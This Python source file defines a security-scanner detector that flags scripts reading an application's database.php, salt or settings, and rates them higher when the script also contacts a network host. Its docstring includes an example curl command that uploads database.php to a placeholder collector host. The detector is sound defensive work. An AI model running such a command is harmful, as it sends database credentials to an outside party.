"""# credentials-in-script.

## What it does
Reports scripts for a shell or another interpreter that read the application's `database.php`, its salt or its settings.
With a network command in the same script it is high.

## Why is this bad
A script that reads the password of the database and then contacts a host needs to be read line by line.

## Example
```sh
curl --data-binary @../database.php https://collector.example.net/
```

## References
- CWE-522
"""

from __future__ import annotations

from collections.abc import Iterable

from scanner.detectors.base import Detector, Scene, rule
from scanner.detectors.remarks import destination, finding_of, first_of_each, is_named, places
from scanner.model.finding import Category, Confidence, Finding, Severity

RULE = rule(
    "credentials-in-script", Category.SECRET_USE, "Script that reads the credentials of the application", __doc__
)


def _find(scene: Scene) -> Iterable[Finding]:
    return first_of_each(_all(scene))


def _all(scene: Scene) -> Iterable[Finding]:
    sends: dict[str, set[str]] = {}
    for place in places(scene, "command"):
        sends.setdefault(place.path, set()).add(destination(scene, place.remark).name)
    for place in places(scene, "credentials"):
        hosts = sorted(name for name in sends.get(place.path, ()) if is_named(name))
        grave = place.path in sends
        also = f", and the script contacts {', '.join(hosts) or 'an unknown address'}" if grave else ""
        yield finding_of(
            RULE,
            place,
            severity=Severity.HIGH if grave else Severity.LOW,
            confidence=Confidence.LIKELY if grave else Confidence.POSSIBLE,
            destinations=hosts,
            secrets=["db.password"] if "database" in place.remark.api.lower() else [],
            message=f"reads {place.remark.api}{also}",
        )


DETECTOR = Detector(RULE, _find)
